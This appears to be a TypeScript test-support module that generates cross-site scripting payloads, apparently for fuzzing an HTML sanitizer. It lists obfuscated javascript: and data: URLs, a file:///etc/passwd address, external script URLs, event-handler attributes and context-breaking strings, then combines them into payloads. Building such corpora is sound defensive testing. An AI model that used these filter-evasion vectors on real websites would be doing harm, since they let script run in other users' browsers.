import { readFileSync } from "node:fs";

/** What a payload calls when it runs. */
const CALLS = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)"];

/** Addresses that run a script, as attackers spell them. */
const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "java\tscript:alert(1)",
  "java&#10;script:alert(1)",
  "&#106;avascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript:%61lert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'/>",
  "blob:https://elsewhere.example/1",
  "file:///etc/passwd",
  "view-source:javascript:alert(1)",
  "//elsewhere.example/x.js",
  "https://elsewhere.example/x.js",
];

/** Elements that load, run or restyle when they get an address. */
const WITH_ADDRESS = [
  "a href",
  "area href",
  "base href",
  "link rel=stylesheet href",
  "img src",
  "img srcset",
  "input type=image src",
  "iframe src",
  "iframe srcdoc",
  "embed src",
  "object data",
  "form action",
  "button formaction",
  "script src",
  "svg><use href",
  "svg><image xlink:href",
  "svg><a xlink:href",
  "svg><animate attributeName=href to",
  "math href",
  "video poster",
  "source src",
  "track src",
  "body background",
  "meta http-equiv=refresh content='0' url",
  "blockquote cite",
];

/** Events that need no hand, or one click. */
const EVENTS = [
  "onload",
  "onerror",
  "onclick",
  "onfocus autofocus tabindex=1",
  "onmouseover",
  "ontoggle open",
  "onbegin",
  "onanimationstart",
];
const WITH_EVENT = [
  "img src=x",
  "svg",
  "details",
  "a",
  "p",
  "video src=x",
  "body",
  "svg><animate",
  "math",
  "style",
];

/** Ends of the places that a text may stand in. */
const ENDS = [
  "",
  '"',
  "'",
  "`",
  "-->",
  "]]>",
  "</style>",
  "</script>",
  "</title>",
  "</textarea>",
  "\\",
  "}",
  "*/",
  "|",
  "]",
  ")",
];

/** Payloads of our own: every address in every element, every event, every end of a place. */
export function ownPayloads(): readonly string[] {
  const addressed = WITH_ADDRESS.flatMap((element) =>
    ADDRESSES.map((address) => `<${element}="${address}">x`),
  );
  const events = WITH_EVENT.flatMap((element) =>
    EVENTS.map((event) => `<${element} ${event.replace(/^\w+/, "$&=alert(1)")}>x`),
  );
  const ended = ENDS.flatMap((end) =>
    CALLS.map((call) => `${end}><script>${call}</script><img src=x onerror=${call}>`),
  );
  return [...ADDRESSES, ...addressed, ...events, ...ended];
}

/**
 * Payloads of other people, which are not ours to give away: those of the files that the environment
 * variable `TRIPTYCH_PAYLOADS` names, separated by colons. A file is a JSON list of texts, or has one a line.
 */
export function givenPayloads(): readonly string[] {
  const files = process.env.TRIPTYCH_PAYLOADS?.split(":") ?? [];
  return files.flatMap((file) => {
    const text = readFileSync(file, "utf8");
    return file.endsWith(".json") ? (JSON.parse(text) as string[]) : text.split(/\r?\n/).filter(Boolean);
  });
}
